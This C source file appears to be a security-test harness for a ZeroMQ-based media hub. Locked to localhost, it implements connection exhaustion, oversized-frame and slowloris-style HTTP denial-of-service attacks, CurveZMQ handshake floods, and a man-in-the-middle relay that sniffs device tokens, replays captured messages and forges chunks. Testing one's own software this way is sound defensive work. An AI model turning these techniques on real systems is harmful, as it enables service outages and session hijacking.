/* ft_attack.c: what someone on the office network can throw at a hub's
 * ZeroMQ ports and its dashboard, for the scripts in tests/security. Only
 * ever aimed at 127.0.0.1.
 *
 *   ft_attack idle PORT N SECONDS
 *       keeps N TCP connections to 127.0.0.1:PORT open that send nothing
 *       (one closed by the hub is opened again, at most 200 a second);
 *   ft_attack bigframe PORT N SECONDS [null]
 *       N connections that send a ZMTP 3.0 greeting (mechanism CURVE) and
 *       then a command frame announcing 16 MiB, and trickle a byte a second;
 *       with "null" (a port without CurveZMQ, the media data path): a NULL
 *       greeting, a READY command (socket type DEALER), then a message frame
 *       announcing 16 MiB;
 *   ft_attack unknownkeys PORT HUBKEY SECONDS [PARALLEL]
 *       CurveZMQ handshakes with fresh, unknown client keys, one after the
 *       other (PARALLEL at once), against the hub's transport key HUBKEY;
 *   ft_attack forge LISTEN_PORT DATA_PORT SECONDS FILE_ID CHUNKS
 *       someone on the path of the media data path: relays the edge's
 *       connections from 127.0.0.1:LISTEN_PORT (the port the hub tells
 *       edges, media.data_advertise) to the hub's DATA_PORT, reads what the
 *       edge sends (ZMTP frames of MediaMsg), and once it has seen a token,
 *       every 100 ms until SECONDS are up opens connections of its own to
 *       DATA_PORT and sends: a chunk of FILE_ID (index cycling below CHUNKS)
 *       with the sniffed device and token, a higher sequence number, random
 *       data and a random MAC; the sniffed DataHello again; a sniffed chunk
 *       message again. Prints "forge: N forged chunks, N replayed hellos, N
 *       replayed chunks sent; token sniffed after S s; relayed N bytes".
 *       Exit 1 if no token was ever seen;
 *   ft_attack slowhttp PORT N SECONDS [INTERVAL]
 *       N HTTP connections that send a request line and a Host header at
 *       once, then one more header line every INTERVAL seconds (10), never
 *       ending the headers (one closed by the hub is opened again, at most
 *       200 a second); the figures add how long the longest-lived
 *       connection was held open.
 * Each prints one line of figures on standard output when done.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zmq.h>

#include "mediawire.h"
#include <signal.h>
#include <sodium.h>

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int tcp_open(unsigned port)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) {
        return -1;
    }
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

static void raise_nofile(void)
{
    struct rlimit r;
    if (getrlimit(RLIMIT_NOFILE, &r) == 0) {
        r.rlim_cur = r.rlim_max;
        setrlimit(RLIMIT_NOFILE, &r);
    }
}

/* True when fd was closed by the peer (reads end or fail); drains data. */
static int peer_closed(int fd)
{
    char buf[512];
    for (;;) {
        ssize_t n = recv(fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n > 0) {
            continue;
        }
        if (n == 0) {
            return 1;
        }
        return errno != EAGAIN && errno != EWOULDBLOCK;
    }
}

enum { MODE_IDLE, MODE_BIGFRAME, MODE_SLOWHTTP };
static const char *const mode_names[] = {"idle", "bigframe", "slowhttp"};

static int run_conns(unsigned port, int n, int seconds, int mode, int interval, int null_mech)
{
    int bigframe = mode == MODE_BIGFRAME;
    raise_nofile();
    int *fds = calloc((size_t)n, sizeof *fds);
    double *since = calloc((size_t)n, sizeof *since);
    int *stage = calloc((size_t)n, sizeof *stage);
    if (!fds || !since || !stage) {
        return 1;
    }
    for (int i = 0; i < n; i++) {
        fds[i] = -1;
    }
    long opened = 0, closed = 0, failed = 0, max_open = 0, lines = 0;
    double longest = 0;
    double start = now_s(), end = start + seconds, budget_t = start;
    long budget = 0;
    static const uint8_t greeting[64] = {0xFF, 0, 0, 0,   0,   0,   0,   0,  0,
                                         0x7F, 3, 0, 'C', 'U', 'R', 'V', 'E'};
    static const uint8_t greeting_null[64] = {0xFF, 0,    0, 0, 0,   0,   0,   0,
                                              0,    0x7F, 3, 0, 'N', 'U', 'L', 'L'};
    /* READY (a command frame of 28 bytes), then a message frame (flags:
     * long) of 16 MiB. */
    static const uint8_t ready_big[30 + 9] = {0x04, 28,  5,   'R', 'E', 'A',  'D', 'Y', 11,  'S',
                                              'o',  'c', 'k', 'e', 't', '-',  'T', 'y', 'p', 'e',
                                              0,    0,   0,   6,   'D', 'E',  'A', 'L', 'E', 'R',
                                              0x02, 0,   0,   0,   0,   0x01, 0,   0,   0};
    /* Command frame (flags: long | command), size 16 MiB. */
    static const uint8_t command_big[9] = {0x06, 0, 0, 0, 0, 0x01, 0, 0, 0};
    const uint8_t *gr = null_mech ? greeting_null : greeting;
    const uint8_t *header = null_mech ? ready_big : command_big;
    size_t header_len = null_mech ? sizeof ready_big : sizeof command_big;
    while (now_s() < end) {
        double t = now_s();
        if (t - budget_t >= 1.0) {
            budget_t = t;
            budget = 0;
        }
        int open_now = 0;
        for (int i = 0; i < n; i++) {
            if (fds[i] >= 0 && peer_closed(fds[i])) {
                close(fds[i]);
                fds[i] = -1;
                closed++;
                if (t - since[i] > longest) {
                    longest = t - since[i];
                }
            }
            if (fds[i] < 0 && budget < 200) {
                fds[i] = tcp_open(port);
                budget++;
                if (fds[i] < 0) {
                    failed++;
                    continue;
                }
                opened++;
                since[i] = t;
                stage[i] = 0;
            }
            if (fds[i] >= 0) {
                open_now++;
                if (bigframe && stage[i] == 0 && t - since[i] > 0.05) {
                    if (send(fds[i], gr, 64, MSG_NOSIGNAL) == 64 &&
                        send(fds[i], header, header_len, MSG_NOSIGNAL) == (ssize_t)header_len) {
                        stage[i] = 1;
                    }
                } else if (bigframe && stage[i] >= 1 && t - since[i] > stage[i]) {
                    char junk = 'x';
                    (void)send(fds[i], &junk, 1, MSG_NOSIGNAL);
                    stage[i]++;
                } else if (mode == MODE_SLOWHTTP && stage[i] == 0 && t - since[i] > 0.05) {
                    char req[128];
                    int len = snprintf(req, sizeof req,
                                       "GET /login HTTP/1.1\r\nHost: 127.0.0.1:%u\r\n", port);
                    if (send(fds[i], req, (size_t)len, MSG_NOSIGNAL) == len) {
                        stage[i] = 1;
                        lines += 2;
                    }
                } else if (mode == MODE_SLOWHTTP && stage[i] >= 1 &&
                           t - since[i] > 0.05 + (double)stage[i] * interval) {
                    char line[64];
                    int len = snprintf(line, sizeof line, "X-Slow-%d: %d\r\n", stage[i], i);
                    (void)send(fds[i], line, (size_t)len, MSG_NOSIGNAL);
                    stage[i]++;
                    lines++;
                }
            }
        }
        if (open_now > max_open) {
            max_open = open_now;
        }
        usleep(20000);
    }
    int still = 0;
    double t_end = now_s();
    for (int i = 0; i < n; i++) {
        if (fds[i] >= 0) {
            still++;
            close(fds[i]);
            if (t_end - since[i] > longest) {
                longest = t_end - since[i];
            }
        }
    }
    printf("%s: %d wanted, %ld opened, %ld closed by the hub, %ld failed to open, at most %ld "
           "open at once, %d open at the end",
           mode_names[mode], n, opened, closed, failed, max_open, still);
    if (mode == MODE_SLOWHTTP) {
        printf(", %ld header lines sent, the longest held %.1f s", lines, longest);
    }
    printf("\n");
    free(fds);
    free(since);
    free(stage);
    return 0;
}

static int hexkey(const char *s, uint8_t k[32])
{
    if (strlen(s) != 64) {
        return -1;
    }
    for (int i = 0; i < 32; i++) {
        unsigned v;
        if (sscanf(s + 2 * i, "%2x", &v) != 1) {
            return -1;
        }
        k[i] = (uint8_t)v;
    }
    return 0;
}

static int run_unknown(unsigned port, const char *hubkey, int seconds, int parallel)
{
    uint8_t sk[32];
    if (hexkey(hubkey, sk) != 0) {
        fprintf(stderr, "ft_attack: HUBKEY must be 64 hex digits\n");
        return 2;
    }
    char ep[64];
    snprintf(ep, sizeof ep, "tcp://127.0.0.1:%u", port);
    void *ctx = zmq_ctx_new();
    long attempts = 0, refused = 0, admitted = 0;
    double end = now_s() + seconds;
    int id = 0;
    while (now_s() < end) {
        void *socks[16], *mons[16];
        int k = parallel < 16 ? parallel : 16;
        for (int i = 0; i < k; i++) {
            char pub[41], sec[41], mon[64];
            zmq_curve_keypair(pub, sec);
            socks[i] = zmq_socket(ctx, ZMQ_DEALER);
            int zero = 0;
            zmq_setsockopt(socks[i], ZMQ_LINGER, &zero, sizeof zero);
            zmq_setsockopt(socks[i], ZMQ_CURVE_SERVERKEY, sk, 32);
            zmq_setsockopt(socks[i], ZMQ_CURVE_PUBLICKEY, pub, 40);
            zmq_setsockopt(socks[i], ZMQ_CURVE_SECRETKEY, sec, 40);
            snprintf(mon, sizeof mon, "inproc://mon-%d", id++);
            zmq_socket_monitor(socks[i], mon,
                               ZMQ_EVENT_HANDSHAKE_FAILED_AUTH | ZMQ_EVENT_HANDSHAKE_SUCCEEDED |
                                   ZMQ_EVENT_HANDSHAKE_FAILED_PROTOCOL |
                                   ZMQ_EVENT_HANDSHAKE_FAILED_NO_DETAIL);
            mons[i] = zmq_socket(ctx, ZMQ_PAIR);
            zmq_setsockopt(mons[i], ZMQ_LINGER, &zero, sizeof zero);
            zmq_connect(mons[i], mon);
            zmq_connect(socks[i], ep);
            attempts++;
        }
        for (int i = 0; i < k; i++) {
            zmq_pollitem_t it = {mons[i], 0, ZMQ_POLLIN, 0};
            if (zmq_poll(&it, 1, 2000) > 0) {
                zmq_msg_t m;
                zmq_msg_init(&m);
                if (zmq_msg_recv(&m, mons[i], 0) >= 6) {
                    uint16_t ev;
                    memcpy(&ev, zmq_msg_data(&m), 2);
                    if (ev == ZMQ_EVENT_HANDSHAKE_SUCCEEDED) {
                        admitted++;
                    } else {
                        refused++;
                    }
                }
                zmq_msg_close(&m);
            }
            zmq_socket_monitor(socks[i], NULL, 0);
            zmq_close(mons[i]);
            zmq_close(socks[i]);
        }
    }
    zmq_ctx_term(ctx);
    printf("unknownkeys: %ld handshakes with fresh keys in %d s (%.0f/s), %ld refused, %ld "
           "admitted\n",
           attempts, seconds, (double)attempts / seconds, refused, admitted);
    return admitted ? 1 : 0;
}

/* ---- forge: the sniffing relay and the forger ----------------------------- */

#define FORGE_PAIRS 8
#define FORGE_BUF (64 << 10)

/* One relayed connection: the edge's side (c), the hub's (h); what the edge
 * sent is parsed as ZMTP frames (greeting, then flags, size, body). */
typedef struct {
    int c, h;
    uint8_t down[FORGE_BUF]; /* hub -> edge, not yet written */
    size_t down_len;
    uint8_t *up; /* edge -> hub, not yet written */
    size_t up_len, up_cap;
    /* parser */
    uint64_t seen;  /* bytes of the edge's stream read */
    uint8_t hdr[9]; /* the frame header being read */
    size_t hdr_len; /* bytes of it so far */
    uint8_t *body;  /* the frame being read */
    size_t body_len, body_got;
    bool command;
} fpair_t;

typedef struct {
    bool have_token;
    uint8_t device[DEVID_BYTES], token[MWIRE_TOKEN_BYTES];
    uint64_t max_seq;
    uint8_t *hello; /* a sniffed DataHello message */
    size_t hello_len;
    uint8_t *chunk; /* a sniffed chunk message */
    size_t chunk_len;
    uint64_t relayed;
    double token_at;
} sniff_t;

static void sniff_body(sniff_t *sn, const uint8_t *b, size_t len, double t0)
{
    mwire_msg_t m;
    if (mwire_decode(b, len, &m) != FT_OK) {
        return;
    }
    const uint8_t *dev = NULL, *tok = NULL;
    uint64_t seq = 0;
    if (m.kind == MWIRE_DATA_HELLO) {
        dev = m.u.data_hello.device;
        tok = m.u.data_hello.token;
        seq = m.u.data_hello.seq;
        free(sn->hello);
        sn->hello = malloc(len);
        if (sn->hello) {
            memcpy(sn->hello, b, len);
            sn->hello_len = len;
        }
    } else if (m.kind == MWIRE_CHUNK && m.u.chunk.has_auth) {
        dev = m.u.chunk.device;
        tok = m.u.chunk.token;
        seq = m.u.chunk.has_mac ? m.u.chunk.seq : 0;
        if (!sn->chunk) {
            sn->chunk = malloc(len);
            if (sn->chunk) {
                memcpy(sn->chunk, b, len);
                sn->chunk_len = len;
            }
        }
    }
    if (dev) {
        if (!sn->have_token || memcmp(sn->token, tok, MWIRE_TOKEN_BYTES) != 0) {
            sn->max_seq = 0;
        }
        if (!sn->have_token) {
            sn->token_at = now_s() - t0;
        }
        sn->have_token = true;
        memcpy(sn->device, dev, DEVID_BYTES);
        memcpy(sn->token, tok, MWIRE_TOKEN_BYTES);
        if (seq > sn->max_seq) {
            sn->max_seq = seq;
        }
    }
    mwire_msg_free(&m);
}

/* Feeds bytes of the edge's stream to the frame parser. */
static void sniff_feed(fpair_t *p, sniff_t *sn, const uint8_t *b, size_t n, double t0)
{
    for (size_t i = 0; i < n;) {
        if (p->seen < 64) { /* the greeting */
            size_t k = 64 - p->seen < n - i ? 64 - p->seen : n - i;
            p->seen += k;
            i += k;
            continue;
        }
        if (!p->body) {
            p->hdr[p->hdr_len++] = b[i++];
            p->seen++;
            size_t need = p->hdr_len >= 1 && (p->hdr[0] & 0x02) ? 9 : 2;
            if (p->hdr_len < need) {
                continue;
            }
            uint64_t size = 0;
            if (need == 2) {
                size = p->hdr[1];
            } else {
                for (int k = 1; k < 9; k++) {
                    size = size << 8 | p->hdr[k];
                }
            }
            p->command = p->hdr[0] & 0x04;
            p->hdr_len = 0;
            if (size > MWIRE_MAX_MSG_BYTES) {
                p->seen = UINT64_MAX / 2; /* not a stream we can follow */
                return;
            }
            p->body = malloc(size ? size : 1);
            p->body_len = size;
            p->body_got = 0;
            if (!p->body) {
                return;
            }
        }
        size_t k = p->body_len - p->body_got < n - i ? p->body_len - p->body_got : n - i;
        memcpy(p->body + p->body_got, b + i, k);
        p->body_got += k;
        p->seen += k;
        i += k;
        if (p->body_got == p->body_len) {
            if (!p->command) {
                sniff_body(sn, p->body, p->body_len, t0);
            }
            free(p->body);
            p->body = NULL;
        }
    }
}

static void fpair_close(fpair_t *p)
{
    if (p->c >= 0) {
        close(p->c);
    }
    if (p->h >= 0) {
        close(p->h);
    }
    free(p->up);
    free(p->body);
    memset(p, 0, sizeof *p);
    p->c = p->h = -1;
}

/* Sends one message on a connection of its own to port; returns 1 if it
 * left (the hub then closes the connection). */
static int forge_send(void *ctx, unsigned port, const uint8_t *b, size_t len)
{
    char ep[64];
    snprintf(ep, sizeof ep, "tcp://127.0.0.1:%u", port);
    void *d = zmq_socket(ctx, ZMQ_DEALER);
    int linger = 1000;
    zmq_setsockopt(d, ZMQ_LINGER, &linger, sizeof linger);
    int ok = zmq_connect(d, ep) == 0 && zmq_send(d, b, len, 0) == (int)len;
    zmq_close(d); /* lingers until the message left */
    return ok;
}

static int run_forge(unsigned lport, unsigned dport, int seconds, const char *file_hex,
                     unsigned chunks)
{
    uint8_t file_id[MEDIA_FILE_ID_BYTES];
    if (strlen(file_hex) != 2 * MEDIA_FILE_ID_BYTES || chunks == 0) {
        fprintf(stderr, "ft_attack forge: FILE_ID must be 32 hex digits, CHUNKS > 0\n");
        return 2;
    }
    for (int i = 0; i < MEDIA_FILE_ID_BYTES; i++) {
        unsigned v;
        if (sscanf(file_hex + 2 * i, "%2x", &v) != 1) {
            return 2;
        }
        file_id[i] = (uint8_t)v;
    }
    if (sodium_init() < 0) {
        return 1;
    }
    signal(SIGPIPE, SIG_IGN);
    int ls = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)lport)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof a) != 0 || listen(ls, 16) != 0) {
        perror("ft_attack forge: listen");
        return 1;
    }
    fprintf(stderr, "ft_attack forge: listening on %u\n", lport);
    fpair_t *pairs = calloc(FORGE_PAIRS, sizeof *pairs);
    size_t dlen = MEDIA_CHUNK_SIZE + MEDIA_TAG_BYTES;
    uint8_t *data = malloc(dlen);
    if (!pairs || !data) {
        return 1;
    }
    for (int i = 0; i < FORGE_PAIRS; i++) {
        pairs[i].c = pairs[i].h = -1;
    }
    sniff_t sn = {0};
    void *ctx = zmq_ctx_new();
    long forged = 0, hellos = 0, replays = 0;
    double t0 = now_s(), end = t0 + seconds, next = t0;
    unsigned idx = 0;
    uint8_t *rbuf = malloc(FORGE_BUF);
    while (now_s() < end) {
        struct pollfd pf[1 + 2 * FORGE_PAIRS];
        int n = 0;
        pf[n++] = (struct pollfd){.fd = ls, .events = POLLIN};
        for (int i = 0; i < FORGE_PAIRS; i++) {
            fpair_t *p = &pairs[i];
            pf[n++] = (struct pollfd){.fd = p->c,
                                      .events = (short)(p->c >= 0 ? POLLIN : 0) |
                                                (p->down_len ? POLLOUT : 0)};
            pf[n++] = (struct pollfd){
                .fd = p->h, .events = (short)(p->h >= 0 ? POLLIN : 0) | (p->up_len ? POLLOUT : 0)};
        }
        poll(pf, (nfds_t)n, 20);
        if (pf[0].revents & POLLIN) {
            int c = accept(ls, NULL, NULL);
            int slot = -1;
            for (int i = 0; i < FORGE_PAIRS && slot < 0; i++) {
                if (pairs[i].c < 0) {
                    slot = i;
                }
            }
            int h = -1;
            struct sockaddr_in t = {.sin_family = AF_INET, .sin_port = htons((uint16_t)dport)};
            t.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
            if (c >= 0 && slot >= 0 && (h = socket(AF_INET, SOCK_STREAM, 0)) >= 0 &&
                connect(h, (struct sockaddr *)&t, sizeof t) == 0) {
                pairs[slot].c = c;
                pairs[slot].h = h;
            } else {
                if (c >= 0) {
                    close(c);
                }
                if (h >= 0) {
                    close(h);
                }
            }
        }
        for (int i = 0; i < FORGE_PAIRS; i++) {
            fpair_t *p = &pairs[i];
            if (p->c < 0) {
                continue;
            }
            short rc = pf[1 + 2 * i].revents, rh = pf[2 + 2 * i].revents;
            bool dead = false;
            if ((rc & (POLLIN | POLLHUP | POLLERR)) && p->up_len < 4 * FORGE_BUF) {
                ssize_t k = recv(p->c, rbuf, FORGE_BUF, MSG_DONTWAIT);
                if (k > 0) {
                    if (p->up_len + (size_t)k > p->up_cap) {
                        p->up_cap = p->up_len + (size_t)k + FORGE_BUF;
                        p->up = realloc(p->up, p->up_cap);
                    }
                    memcpy(p->up + p->up_len, rbuf, (size_t)k);
                    p->up_len += (size_t)k;
                    sn.relayed += (uint64_t)k;
                    sniff_feed(p, &sn, rbuf, (size_t)k, t0);
                } else if (k == 0 || (errno != EAGAIN && errno != EWOULDBLOCK)) {
                    dead = true;
                }
            }
            if ((rh & (POLLIN | POLLHUP | POLLERR)) && p->down_len < FORGE_BUF) {
                ssize_t k =
                    recv(p->h, p->down + p->down_len, FORGE_BUF - p->down_len, MSG_DONTWAIT);
                if (k > 0) {
                    p->down_len += (size_t)k;
                } else if (k == 0 || (errno != EAGAIN && errno != EWOULDBLOCK)) {
                    dead = true;
                }
            }
            if (p->up_len && (rh & POLLOUT)) {
                ssize_t k = send(p->h, p->up, p->up_len, MSG_DONTWAIT | MSG_NOSIGNAL);
                if (k > 0) {
                    memmove(p->up, p->up + k, p->up_len - (size_t)k);
                    p->up_len -= (size_t)k;
                }
            }
            if (p->down_len && (rc & POLLOUT)) {
                ssize_t k = send(p->c, p->down, p->down_len, MSG_DONTWAIT | MSG_NOSIGNAL);
                if (k > 0) {
                    memmove(p->down, p->down + k, p->down_len - (size_t)k);
                    p->down_len -= (size_t)k;
                }
            }
            if (dead) {
                fpair_close(p);
            }
        }
        double t = now_s();
        if (sn.have_token && t >= next) {
            next = t + 0.1;
            /* A chunk with the sniffed token and a fresh sequence number:
             * everything but the MAC, which takes the session's key. */
            randombytes_buf(data, dlen);
            mwire_msg_t m = {.kind = MWIRE_CHUNK};
            memcpy(m.u.chunk.file_id, file_id, MEDIA_FILE_ID_BYTES);
            m.u.chunk.index = idx++ % chunks;
            m.u.chunk.data = data;
            m.u.chunk.len = dlen;
            m.u.chunk.has_auth = m.u.chunk.has_mac = true;
            memcpy(m.u.chunk.device, sn.device, DEVID_BYTES);
            memcpy(m.u.chunk.token, sn.token, MWIRE_TOKEN_BYTES);
            m.u.chunk.seq = sn.max_seq + 1000 + (uint64_t)forged;
            randombytes_buf(m.u.chunk.mac, MWIRE_MAC_BYTES);
            uint8_t *b = NULL;
            size_t len = 0;
            if (mwire_encode(&m, &b, &len) == FT_OK) {
                forged += forge_send(ctx, dport, b, len);
                free(b);
            }
            if (sn.hello) {
                hellos += forge_send(ctx, dport, sn.hello, sn.hello_len);
            }
            if (sn.chunk) {
                replays += forge_send(ctx, dport, sn.chunk, sn.chunk_len);
            }
        }
    }
    for (int i = 0; i < FORGE_PAIRS; i++) {
        if (pairs[i].c >= 0) {
            fpair_close(&pairs[i]);
        }
    }
    close(ls);
    zmq_ctx_term(ctx);
    printf("forge: %ld forged chunks, %ld replayed hellos, %ld replayed chunks sent; token "
           "sniffed after %.1f s; relayed %llu bytes\n",
           forged, hellos, replays, sn.have_token ? sn.token_at : -1.0,
           (unsigned long long)sn.relayed);
    free(sn.hello);
    free(sn.chunk);
    free(pairs);
    free(data);
    free(rbuf);
    return sn.have_token ? 0 : 1;
}

int main(int argc, char **argv)
{
    if (argc >= 5 && strcmp(argv[1], "idle") == 0) {
        return run_conns((unsigned)atoi(argv[2]), atoi(argv[3]), atoi(argv[4]), MODE_IDLE, 0, 0);
    }
    if (argc >= 5 && strcmp(argv[1], "bigframe") == 0) {
        return run_conns((unsigned)atoi(argv[2]), atoi(argv[3]), atoi(argv[4]), MODE_BIGFRAME, 0,
                         argc > 5 && strcmp(argv[5], "null") == 0);
    }
    if (argc >= 5 && strcmp(argv[1], "slowhttp") == 0) {
        int interval = argc > 5 ? atoi(argv[5]) : 10;
        return run_conns((unsigned)atoi(argv[2]), atoi(argv[3]), atoi(argv[4]), MODE_SLOWHTTP,
                         interval > 0 ? interval : 10, 0);
    }
    if (argc >= 5 && strcmp(argv[1], "unknownkeys") == 0) {
        return run_unknown((unsigned)atoi(argv[2]), argv[3], atoi(argv[4]),
                           argc > 5 ? atoi(argv[5]) : 4);
    }
    if (argc >= 7 && strcmp(argv[1], "forge") == 0) {
        return run_forge((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]), atoi(argv[4]), argv[5],
                         (unsigned)atoi(argv[6]));
    }
    fprintf(stderr, "usage: ft_attack idle PORT N SECONDS | bigframe PORT N SECONDS |\n"
                    "       unknownkeys PORT HUBKEY SECONDS [PARALLEL] |\n"
                    "       slowhttp PORT N SECONDS [INTERVAL] |\n"
                    "       forge LISTEN_PORT DATA_PORT SECONDS FILE_ID CHUNKS\n");
    return 2;
}
